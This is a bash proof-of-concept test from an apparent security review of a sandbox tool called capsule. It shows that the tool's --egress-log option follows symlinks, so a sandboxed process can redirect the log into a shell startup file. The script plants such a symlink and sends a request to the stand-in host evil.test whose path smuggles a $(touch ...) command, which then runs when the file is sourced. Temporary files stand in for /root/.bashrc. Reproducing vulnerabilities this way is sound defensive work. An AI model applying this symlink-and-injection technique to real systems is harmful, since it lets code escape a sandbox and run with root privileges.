#!/bin/bash
# Finding (root or the operator's uid): `capsule run --egress-log FILE`
# opens FILE with fopen("ae") (src/cli/run.c run_execute), following
# symlinks, with capsule's own rights. When FILE lies in a directory the
# tool can write (a workspace it is granted, `--egress-log ./egress.log`),
# the tool replaces it with a symlink in one run, and the next run appends
# to the symlink's target as root (or as the operator): here a stand-in for
# /root/.bashrc. The appended JSON line carries the tool's request path,
# where `$(...)` and backquotes survive JSON escaping, so the next shell
# that sources that file runs the tool's commands outside the sandbox.
# Exits non-zero when the target is written and the command runs.
capsule=$(realpath "${1:-build/capsule}")
W=$(mktemp -d /var/tmp/capsule-review-ws.XXXXXX)
T=$(mktemp /var/tmp/capsule-review-bashrc.XXXXXX)   # stands in for /root/.bashrc
mark=/tmp/capsule-review-pwned-$$
trap 'rm -rf "$W" "$T" "$mark"' EXIT
chmod 777 "$W"; echo "# the operator's shell startup file" >"$T"; chmod 600 "$T"
cat >"$W/req.sh" <<EOS
#!/bin/bash
exec 3<>/dev/tcp/127.0.0.1/3128
printf 'GET http://evil.test/\$(touch\$IFS$mark) HTTP/1.1\r\n\r\n' >&3
cat <&3 >/dev/null
EOS
chmod 755 "$W/req.sh"
run=("$capsule" run --allow-rw "$W" --egress-log "$W/egress.log" --allow-host example.invalid --)
"${run[@]}" /bin/sh -c "rm -f $W/egress.log && ln -s $T $W/egress.log"   # run 1: plant
"${run[@]}" "$W/req.sh"                                                  # run 2: write
echo "--- $T now holds:"; cat "$T"
bash -c ". '$T'" >/dev/null 2>&1   # the operator's next shell
if [ -e "$mark" ]; then
  echo "VULNERABLE: capsule wrote through the tool's symlink and the tool's command ran outside"; exit 1
fi
grep -q evil.test "$T" && { echo "VULNERABLE: capsule wrote through the tool's symlink"; exit 1; }
echo blocked; exit 0
